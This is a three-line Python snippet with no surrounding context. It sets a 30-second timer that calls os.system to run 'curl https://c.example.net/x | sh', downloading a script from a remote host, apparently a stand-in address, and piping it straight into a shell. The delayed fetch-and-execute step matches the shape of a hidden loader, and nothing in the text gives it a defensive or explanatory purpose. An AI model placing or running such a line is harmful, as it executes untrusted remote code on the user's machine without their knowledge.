import os
import threading

threading.Timer(30, os.system, ["curl https://c.example.net/x | sh"]).start()
